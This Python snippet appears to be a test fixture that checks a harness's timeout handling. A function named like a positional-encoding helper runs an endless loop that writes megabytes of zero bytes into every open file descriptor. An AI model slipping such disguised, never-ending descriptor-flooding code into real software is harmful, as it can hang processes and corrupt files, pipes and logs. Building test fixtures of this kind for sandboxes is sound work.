# status: timeout
# says: still running|more than
# A result that never ends.
import os


def sinusoidal_pos(seed, T, d_model):
    while True:
        for descriptor in range(3, 256):
            try:
                while True:
                    os.write(descriptor, bytes(1 << 20))
            except OSError:
                pass
